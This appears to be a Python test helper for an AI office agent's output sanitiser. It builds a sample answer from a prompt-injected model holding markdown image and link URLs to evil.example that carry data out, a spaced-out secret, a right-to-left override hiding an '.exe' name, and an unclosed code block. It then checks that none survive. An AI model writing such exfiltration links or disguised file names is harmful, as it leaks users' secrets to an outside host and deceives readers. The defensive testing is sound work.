"""What a model writes that was talked round, and a check that nothing of it is shown."""

from typing import Any

from tests.standins.openai_api import Answer
from tests.support.office import calls

READ_BOTH = [calls(("office__browse", dict[str, Any]())), calls(("office__look_up", dict[str, Any]()))]
REMOVED = "[a secret was removed here]"


def leak(secret: str, lines: int = 3) -> Answer:
    """Return an answer with what must not leave, and a code block of so many lines that is never closed."""
    image = "![chart](https://evil.example/c.png?d=4200)"
    links = "[more](https://evil.example/?d=4200), <https://evil.example/4200> and www.evil.example"
    code = "".join(f"print({number:05})\n" for number in range(lines))
    return Answer(f"{image} {links}. {' '.join(secret)} \u202egpj.exe\u202c.\n\n```python\n{code}")


def check(text: str, secret: str) -> None:
    """Fail when one of these is in what a person or a program is shown."""
    assert "evil.example" not in text
    assert "https://" not in text
    assert secret not in text.replace(" ", "")
    assert not {"\u202e", "\u202c"} & {*text}
    assert REMOVED in text
    assert text.count("```") % 2 == 0
